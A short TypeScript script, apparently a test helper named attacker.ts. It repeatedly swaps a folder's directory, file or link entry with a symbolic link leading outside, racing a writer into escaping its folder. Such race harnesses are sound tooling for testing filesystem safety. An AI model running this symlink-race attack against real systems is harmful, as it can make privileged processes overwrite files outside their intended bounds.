// Swaps one name in a folder between the real entry and a link that leads out, as fast as possible.
//   node attacker.ts <parent | leaf | link> <folder> <outside>
import fs from 'node:fs'
import { join } from 'node:path'

const [kind, folder = '', outside = ''] = process.argv.slice(2)
const pathTo = (name: string) => join(folder, name)

/** A folder cannot be replaced atomically: the name is missing for a moment, and a writer may create it then. */
function move(from: string, to: string): void {
  while (fails(() => fs.renameSync(pathTo(from), pathTo(to))))
    fails(() => fs.rmSync(pathTo(to), { recursive: true, force: true }))
}

function fails(operation: () => void): boolean {
  try {
    operation()
    return false
  } catch {
    return true
  }
}

function swapParent(): void {
  move('dir', 'dir-real')
  move('dir-link', 'dir')
  move('dir', 'dir-link')
  move('dir-real', 'dir')
}

function replaceFile(create: (path: string) => void): void {
  create(pathTo('next'))
  fs.renameSync(pathTo('next'), pathTo('file.txt'))
}

function swapLeaf(): void {
  replaceFile((path) => fs.symlinkSync(join(outside, 'file.txt'), path))
  replaceFile((path) => fs.linkSync(pathTo('real.txt'), path))
}

function swapLink(): void {
  replaceFile((path) => fs.symlinkSync(join(outside, 'file.txt'), path))
  replaceFile((path) => fs.symlinkSync('real.txt', path))
}

const swaps = { parent: swapParent, leaf: swapLeaf, link: swapLink }
const swap = swaps[kind as keyof typeof swaps]
process.stdout.write('ready\n')
const parent = process.ppid
// Exits with the parent, which may have been killed.
while (process.ppid === parent) for (let n = 0; n < 1000; n++) swap()
